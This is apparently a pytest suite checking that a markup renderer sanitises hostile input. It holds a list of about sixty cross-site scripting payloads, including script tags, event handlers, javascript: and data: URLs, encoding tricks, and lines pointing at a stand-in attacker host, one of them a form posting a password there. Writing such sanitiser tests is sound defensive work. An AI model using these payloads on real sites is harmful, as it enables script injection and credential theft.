import threading

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cop.core.markup import render
from tests.make.markup import assert_safe

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=x></object><embed src=x>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<form action=//evil.example><input name=password></form>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<p id=main class=errors data-dismiss onclick=alert(1)>x</p>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java&#x09;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<details open ontoggle=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.gif)",
    '![x" onerror="alert(1)](/pictures/bcdfghjkmnprstvw-8x6)',
    "![x](/pictures/bcdfghjkmnprstvw-8x6 'onload=alert(1)')",
    "<img src=/pictures/bcdfghjkmnprstvw-8x6 onerror=alert(1) srcset=//evil.example/x>",
    "<img alt='\"><script>alert(1)</script>' src=/pictures/bcdfghjkmnprstvw-8x6>",
    "<img src='/pictures/bcdfghjkmnprstvw-8x6' style='position:fixed' width=99999>",
    '[x](https://a.example "onmouseover=alert(1)")',
    '[x](https://a.example" onmouseover="alert(1))',
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    '<https://a.example/"onmouseover=alert(1)>',
    'https://a.example/"onmouseover="alert(1)',
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    "```javascript\nalert(1)\n```",
    "``` {.x onclick=alert(1)}\nx\n```",
    "    <script>alert(1)</script>",
    "# x {: onclick=alert(1) }",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
    "\u0000<script>alert(1)</script>",
    "<scr\u0000ipt>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "wzxhzdk:0",
    "\x02wzxhzdk:0\x03",
    "\x02amp\x03lt;script>alert(1)",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_comes_out_harmless(text: str):
    assert_safe(render(text))
    assert_safe(render(f"คำนำ {text} คำท้าย"))
    assert_safe(render(f"- {text}\n- x\n\n> {text}"))


@given(st.text(max_size=300))
def test_any_text_renders_safely(text: str):
    assert_safe(render(text))


MARKS = [*"[]()<>!*`x\"'=\n -|\\", "javascript:", "script", "href", "on", "&#"]


@given(st.lists(st.sampled_from(MARKS), max_size=60))
def test_any_mix_of_marks_renders_safely(parts: list[str]):
    assert_safe(render("".join(parts)))


def test_two_threads_do_not_mix():
    wrong = []

    def work(letter: str) -> None:
        made = {render(f"**{letter}**") for _ in range(50)}
        if made != {f"<p><strong>{letter}</strong></p>"}:
            wrong.append(letter)

    threads = [threading.Thread(target=work, args=(letter,)) for letter in "กขคง"]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert not wrong
